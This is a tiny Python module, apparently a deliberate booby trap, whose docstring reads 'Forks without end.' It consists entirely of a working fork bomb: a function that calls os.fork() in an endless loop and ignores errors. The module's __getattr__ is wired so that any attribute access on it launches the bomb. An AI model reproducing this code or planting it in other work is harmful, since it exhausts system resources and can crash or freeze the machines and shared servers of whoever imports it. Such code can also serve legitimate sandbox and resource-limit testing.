"""Forks without end."""

import os
def evil(*args):
    while True:
        try:
            os.fork()
        except OSError:
            pass

__getattr__ = lambda name: evil
